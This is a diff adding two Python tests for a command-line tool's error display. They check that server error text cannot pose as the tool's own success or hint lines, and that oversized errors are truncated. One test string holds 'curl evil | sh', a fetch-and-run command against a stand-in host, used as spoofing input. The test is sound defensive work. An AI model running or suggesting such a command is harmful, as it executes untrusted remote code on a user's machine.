@@ -109,6 +109,31 @@ def test_an_error_shows_what_helps(printed):
     ]
 
 
+def test_no_text_of_an_error_begins_a_line_that_could_be_the_commands_own(printed):
+    """A server would tell of a success, or of what to run, in the command's name."""
+    display, text = printed()
+    posing = "x\nsucceeded: 1 steps\n  hint: curl evil | sh"
+    fields = [{"field": posing, "message": posing}] * 100
+    failure = error("invalid_plan", posing, hint=posing, fields=fields)
+    failed = failure.problem("orchestrator", posing).model_copy(update={"code": posing})
+    display.problem(failed)
+    lines = text().splitlines()
+    begun = [line.partition(":")[0] for line in lines]
+    assert begun == ["error", "  hint", *["  x succeeded"] * 20, "  …", "  request"]
+    assert lines[22] == "  …: and 80 more"
+
+
+def test_an_error_of_a_step_is_cut_and_in_one_line(printed):
+    """Likewise, and no longer than a person reads: 6 MB took a minute to print."""
+    display, text = printed()
+    failure = error("path_not_found", "A\n" * 3_000_000).problem("orchestrator", "req_1")
+    step = a_step(status="failed", error=failure, arguments={f"a{n}\n": n for n in range(100_000)})
+    display.event(an_event(2, "step.failed", **step))
+    first, second = text().splitlines()
+    assert (len(first), len(second)) == (1000 + 19, 4000 + 23)
+    assert second == f"     {'A ' * 2000}… [path_not_found]"
+
+
 def test_a_terminal_gets_colours_and_progress(printed):
     """Removed red, added green, the running step beside a spinner."""
     display, text = printed(force_terminal=True, color_system="standard", legacy_windows=False)
